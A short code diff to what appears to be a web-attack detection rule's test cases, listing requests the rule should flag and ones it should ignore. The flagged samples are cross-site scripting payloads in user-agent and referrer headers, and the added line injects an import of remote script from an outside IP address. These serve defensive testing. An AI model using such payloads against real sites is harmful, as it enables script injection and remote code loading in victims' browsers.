@@ -92,6 +92,7 @@ export default defineRule({
     { request: 'GET / HTTP/1.1', agent: "';k='er';top['al'+k+'t'](1)//" },
     'GET /alert(1)%2F HTTP/1.1',
     { request: 'GET / HTTP/1.1', referrer: 'https://www.example.com/s?q=";alert(1)//' },
+    { request: 'GET / HTTP/1.1', agent: "import '//203.0.113.9/a.js'" },
   ],
   misses: [
     'GET /s?q=red+alert HTTP/1.1',
